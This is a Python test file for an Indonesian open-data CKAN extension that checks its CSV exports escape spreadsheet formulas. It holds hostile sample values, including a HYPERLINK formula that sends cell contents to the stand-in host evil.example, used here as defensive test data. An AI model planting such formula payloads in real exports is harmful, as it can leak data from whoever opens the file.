"""CSV exports never run a formula (issue 22), whatever list separator the
spreadsheet splits on: ',' (the file's own), ';' (Excel in Indonesian) or tab.
A property test over any text, then every CSV export through its endpoint
with hostile names in the data."""
import csv
import io
import re

import pytest
from hypothesis import given, settings, strategies as st

from ckan.tests import factories, helpers

from ckanext.satudata.reports import export

from tests.helpers import SdiDataset, as_user, transition

FORMULA = "=+-@"
HOSTILE = "x;=1+1;"
# inside the name, after a separator: the old export let these through
HYPERLINK = 'Dinas;=HYPERLINK("http://evil.example/?"&A1,"klik")'


def _pieces(text):
    """What any reader could make a cell of: split on every separator and line
    break, ignoring quotes, then leading spaces and quote marks dropped."""
    return [p.lstrip().lstrip('"').lstrip() for p in re.split(r"[;,\t\r\n]", text)]


def _runnable(text):
    """Pieces a spreadsheet would run: a formula character first, and not
    just a signed number (a spreadsheet reads "-1" as the number -1)."""
    return [p for p in _pieces(text) if p.startswith(tuple(FORMULA))
            and not re.fullmatch(r"[+-]?\d+(\.\d+)?", p.rstrip().rstrip('"'))]


# text made mostly of the characters that matter, and any text at all
_dangerous = st.text(alphabet=st.sampled_from(list(FORMULA + ";,\t\r\n \"'x1")), max_size=30)


@settings(max_examples=500, deadline=None)
@given(st.one_of(_dangerous, st.text()))
def test_no_cell_starts_a_formula_whatever_the_separator(text):
    cell = export.csv_cell(text)
    assert not _runnable(cell), (text, cell)
    assert not cell.startswith(("\t", "\r"))
    # and the whole CSV line, read by a reader splitting on anything
    line = export.to_csv({"columns": [("a", "A")], "rows": [{"a": text}]}).decode("utf-8-sig")
    assert not _runnable(line), (text, line)


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_a_reader_honouring_the_quotes_gets_the_text_back(text):
    body = export.to_csv({"columns": [("a", "A")], "rows": [{"a": text}]})
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows[1][0] == export.csv_cell(text)
    # nothing but the marks is added: the text is all there, in order
    assert rows[1][0].replace("'", "") == text.replace("'", "")


def test_numbers_stay_numbers():
    assert export.csv_cell(-5) == -5 and export.csv_cell("-1.5") == "-1.5"
    assert export.csv_cell("Dinas Kesehatan") == "Dinas Kesehatan"
    assert export.csv_cell(HOSTILE) == "x;'=1+1;"
    assert export.csv_cell(HYPERLINK).startswith("Dinas;'=HYPERLINK")
    assert export.csv_cell("=1+1") == "'=1+1" and export.csv_cell("\t=1") == "'\t'=1"


# -- every CSV export through its endpoint, with hostile names in the data ----------------


def _assert_inert(body):
    text = body.decode("utf-8-sig")
    assert not _runnable(text), [p for p in _runnable(text)]
    return text


@pytest.fixture
def hostile(walidata):
    """An OPD, a dataset and an OPD member whose names are formulas, a dataset
    published through the chain and a request handed to that OPD."""
    member = factories.User(name="petugas-jahat", fullname=HOSTILE)
    org = factories.Organization(name="opd-jahat", title=HYPERLINK,
                                 users=[{"name": member["name"], "capacity": "editor"}])
    pkg = SdiDataset(owner_org=org["id"], title=HOSTILE)
    for name, role, extra in [("assign", "subkoord", {"assignee": walidata["staf"]["name"]}),
                              ("submit", "staf", {})]:
        transition(walidata[role], pkg["id"], name, **extra)
    request = helpers.call_action(
        "satudata_request_create", context={"user": ""}, title=HOSTILE,
        name="@SUM(1+1)", email="warga@example.org", phone="+62 811", description=HOSTILE,
        purpose="-2+3")
    team = dict(walidata, opd=member)
    for who, name, extra in [("subkoord", "assign", {"assignee": walidata["staf"]["name"]}),
                             ("staf", "not_available", {}),
                             ("subkoord", "escalate", {"organization": org["name"]}),
                             ("opd", "opd_decline", {})]:
        helpers.call_action("satudata_request_transition", context=as_user(team[who]),
                            id=request["id"], transition=name, **extra)
    return {"org": org, "dataset": pkg}


def _token(user):
    return {"Authorization": factories.APIToken(user=user["name"])["token"]}


@pytest.mark.usefixtures("satudata_db", "clean_redis")
@pytest.mark.parametrize("table", ["opd", "people", "overdue", "dataset_steps"])
def test_kinerja_csv_is_inert(app, hostile, walidata, table):
    resp = app.get("/satudata/kinerja/export/%s.csv" % table, headers=_token(walidata["kabid"]))
    text = _assert_inert(resp.data)
    if table in ("opd", "people"):
        assert "'=" in text   # the hostile name is there, marked as text


@pytest.mark.usefixtures("satudata_db", "clean_redis")
def test_statistik_csv_is_inert(app, hostile):
    from ckanext.satudata.workflow import clock
    year = clock.to_wib(clock.now()).year
    resp = app.get("/permintaan-data/statistik/opd.csv?tahun=%d" % year)
    text = _assert_inert(resp.data)
    assert "'=HYPERLINK" in text
    for table in ("bulan", "alasan_penolakan", "ringkasan"):
        _assert_inert(app.get("/permintaan-data/statistik/%s.csv?tahun=%d" % (table, year)).data)


@pytest.mark.usefixtures("satudata_db", "clean_redis")
def test_ppid_report_csv_is_inert(app, hostile, walidata):
    from ckanext.satudata.workflow import clock
    year = clock.to_wib(clock.now()).year
    resp = app.get("/satudata/laporan-ppid/%d.csv" % year, headers=_token(walidata["kabid"]))
    assert resp.headers["Content-Type"].startswith("text/csv")
    _assert_inert(resp.data)
